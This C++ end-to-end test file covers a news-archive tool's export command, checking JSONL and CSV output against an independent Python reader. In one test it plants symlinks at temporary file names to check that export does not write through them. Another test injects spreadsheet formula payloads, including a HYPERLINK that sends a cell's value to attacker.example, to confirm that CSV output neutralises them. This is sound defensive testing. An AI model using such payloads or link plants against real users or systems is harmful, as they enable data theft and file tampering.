// `sillok export` of a crawled archive, read back by an independent reader: Python's json and
// csv modules, with PyYAML for the files' front matter.
#include "daemon/archive/archive_format.hpp"
#include "tests/e2e/crawl_session.hpp"
#include "tests/support/synthetic_archive.hpp"

#include <doctest/doctest.h>
#include <sqlite3.h>

#include <sys/stat.h>

#include <filesystem>

namespace {

namespace fs = std::filesystem;
using namespace sillok::test;

// The archive's files, without SQLite's -wal and -shm files, which any reader of a WAL
// ledger may create (empty) beside it.
std::vector<std::string> archive_files(const fs::path& archive)
{
    auto files = files_under(archive);
    std::erase_if(files, [](const std::string& name) { return name.starts_with("ledger.sqlite3-"); });
    return files;
}

} // namespace

TEST_CASE("e2e::export of the fixture archive is read back by Python with every field equal to the files")
{
    ScratchDir scratch;
    NaverStandIn server;
    const auto archive = scratch.path() / "archive";
    auto run = crawl_fixtures(server, archive);
    REQUIRE(run.result.exit_code == 0);
    const auto ledger_bytes = read_file(archive / "ledger.sqlite3");
    const auto files = archive_files(archive);

    const auto jsonl = scratch.path() / "archive.jsonl";
    auto to_file = run_command({SILLOK_BINARY, "export", "--archive", archive.string(), "-o", jsonl.string()});
    INFO("stderr:\n" << to_file.err);
    CHECK(to_file.exit_code == 0);
    CHECK(to_file.out.empty());
    auto to_stdout = run_command({SILLOK_BINARY, "export", "--archive", archive.string(), "--format", "csv"});
    INFO("stderr:\n" << to_stdout.err);
    CHECK(to_stdout.exit_code == 0);
    const auto csv = scratch.path() / "archive.csv";
    write_file(csv, to_stdout.out);

    auto check = run_command({"/usr/bin/python3", std::string(SILLOK_E2E_DIR) + "/check_export.py", archive.string(),
                              jsonl.string(), csv.string()});
    INFO("python:\n" << check.out << check.err);
    CHECK(check.exit_code == 0);
    CHECK(check.out.contains("checked 3 json lines and 3 csv rows against 3 files"));

    // Exporting changed nothing in the archive.
    CHECK(archive_files(archive) == files);
    CHECK(read_file(archive / "ledger.sqlite3") == ledger_bytes);
}

TEST_CASE("e2e::export refuses bad options before reading anything")
{
    ScratchDir scratch;
    const auto archive = scratch.path() / "archive";
    auto no_ledger = run_command({SILLOK_BINARY, "export", "--archive", archive.string()});
    CHECK(no_ledger.exit_code == 74);
    CHECK(no_ledger.err.contains("there is no archive at"));
    auto bad_format = run_command({SILLOK_BINARY, "export", "--archive", archive.string(), "--format", "xml"});
    CHECK(bad_format.exit_code == 64);
    auto bad_state = run_command({SILLOK_BINARY, "export", "--archive", archive.string(), "--state", "lost"});
    CHECK(bad_state.exit_code == 64);
    CHECK(bad_state.err.contains("--state 'lost'"));
}

TEST_CASE("e2e::export shows a progress bar on a terminal only")
{
    ScratchDir scratch;
    const auto archive = scratch.path() / "archive";
    write_synthetic_archive(archive, 300);
    const auto output = scratch.path() / "out.jsonl";
    const std::string command =
        std::string(SILLOK_BINARY) + " export --archive " + archive.string() + " -o " + output.string();

    // script(1) runs the command on a pseudo-terminal and copies what it shows.
    auto on_terminal = run_command({"/usr/bin/script", "-qec", command, "/dev/null"});
    INFO("terminal:\n" << on_terminal.out << on_terminal.err);
    CHECK(on_terminal.exit_code == 0);
    CHECK(on_terminal.out.contains("export ["));
    CHECK(on_terminal.out.contains("100% 300/300"));
    CHECK(std::ranges::count(read_file(output), '\n') == 300);

    auto piped = run_command({SILLOK_BINARY, "export", "--archive", archive.string(), "-o", output.string()});
    CHECK(piped.exit_code == 0);
    CHECK_FALSE(piped.err.contains("export ["));
    CHECK(std::ranges::count(read_file(output), '\n') == 300);
}

TEST_CASE("e2e::export -o never writes through a link planted at a temporary file's name")
{
    ScratchDir scratch;
    const auto archive = scratch.path() / "archive";
    write_synthetic_archive(archive, 3);
    const auto victim = scratch.path() / "victim.txt";
    write_file(victim, "not to be overwritten\n");
    const auto output = scratch.path() / "out.csv";
    // The shell plants links at the names a temporary file could have (the pid it is about to
    // hand to sillok through exec, and a few around it), then runs the export.
    const std::string command = "for n in $(seq $(($$ - 2)) $(($$ + 2))); do ln -s " + victim.string() + " "
                                + output.string() + ".partial-$n; done; exec " + SILLOK_BINARY + " export --archive "
                                + archive.string() + " --format csv -o " + output.string();
    auto run = run_command({"/bin/sh", "-c", command});
    INFO("stderr:\n" << run.err);
    CHECK(run.exit_code == 0);
    CHECK(read_file(victim) == "not to be overwritten\n");
    CHECK_FALSE(std::filesystem::is_symlink(output));
    REQUIRE(std::filesystem::is_regular_file(output));
    // A new file's usual mode (0666 less the umask), not the temporary file's 0600.
    const auto mask = ::umask(0);
    ::umask(mask);
    CHECK(static_cast<unsigned>(std::filesystem::status(output).permissions())
          == (0666U & ~static_cast<unsigned>(mask)));
    // The header and three rows, each ended by CRLF (the fields' own line breaks are LF).
    const auto csv = read_file(output);
    size_t rows = 0;
    for (auto at = csv.find("\r\n"); at != std::string::npos; at = csv.find("\r\n", at + 2)) {
        ++rows;
    }
    CHECK(rows == 4);
    // Only the planted links and the output are beside it: no temporary file was left.
    size_t partial = 0;
    for (const auto& entry : std::filesystem::directory_iterator(scratch.path())) {
        if (entry.path().filename().string().contains(".partial-")) {
            CHECK(std::filesystem::is_symlink(entry.symlink_status()));
            ++partial;
        }
    }
    CHECK(partial == 5);
}

TEST_CASE("e2e::export's CSV puts a ' before a field a spreadsheet would run as a formula, Python agrees")
{
    ScratchDir scratch;
    const auto archive = scratch.path() / "archive";
    write_synthetic_archive(archive, 3);
    // Article 0 gets a hostile headline, author, category and content; the ledger its new hash.
    auto s = synthetic_article(0);
    sillok::parsers::Article article;
    article.ref = {s.oid, s.aid};
    article.title = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"클릭\")";
    article.category = "+경제";
    article.publisher = "합성일보";
    article.author = "@SUM(1+1)";
    article.published_at = s.published_at;
    article.content = "-2+3 로 시작하는 본문.\n\n'따옴표로 시작하는 둘째 문단.";
    const auto hash = sillok::daemon::content_hash(article.content);
    write_file(archive / s.path, sillok::daemon::render_archive_file(article, hash, "2024-02-01T10:00:00+09:00"));
    sqlite3* db = nullptr;
    REQUIRE(sqlite3_open((archive / "ledger.sqlite3").c_str(), &db) == SQLITE_OK);
    const auto update = "UPDATE articles SET content_hash = '" + hash + "' WHERE aid = '" + s.aid
                        + "'; UPDATE versions SET content_hash = '" + hash
                        + "' WHERE article_id =" + " (SELECT id FROM articles WHERE aid = '" + s.aid + "');";
    CHECK(sqlite3_exec(db, update.c_str(), nullptr, nullptr, nullptr) == SQLITE_OK);
    sqlite3_close(db);

    const auto jsonl = scratch.path() / "out.jsonl";
    const auto csv = scratch.path() / "out.csv";
    auto to_jsonl = run_command({SILLOK_BINARY, "export", "--archive", archive.string(), "-o", jsonl.string()});
    auto to_csv =
        run_command({SILLOK_BINARY, "export", "--archive", archive.string(), "--format", "csv", "-o", csv.string()});
    INFO("stderr:\n" << to_jsonl.err << to_csv.err);
    REQUIRE(to_jsonl.exit_code == 0);
    REQUIRE(to_csv.exit_code == 0);

    const auto table = read_file(csv);
    CHECK(table.contains("\"'=HYPERLINK("));
    CHECK_FALSE(table.contains("\"=HYPERLINK("));
    CHECK(table.contains("\"'@SUM(1+1)\""));
    CHECK(table.contains("\"'+경제\""));
    CHECK(table.contains("\"'-2+3 로 시작하는 본문."));
    // JSON Lines keep the text as it is.
    CHECK(read_file(jsonl).contains("\"title\":\"=HYPERLINK("));

    auto check = run_command({"/usr/bin/python3", std::string(SILLOK_E2E_DIR) + "/check_export.py", archive.string(),
                              jsonl.string(), csv.string()});
    INFO("python:\n" << check.out << check.err);
    CHECK(check.exit_code == 0);
    CHECK(check.out.contains("checked 3 json lines and 3 csv rows against 3 files"));
}
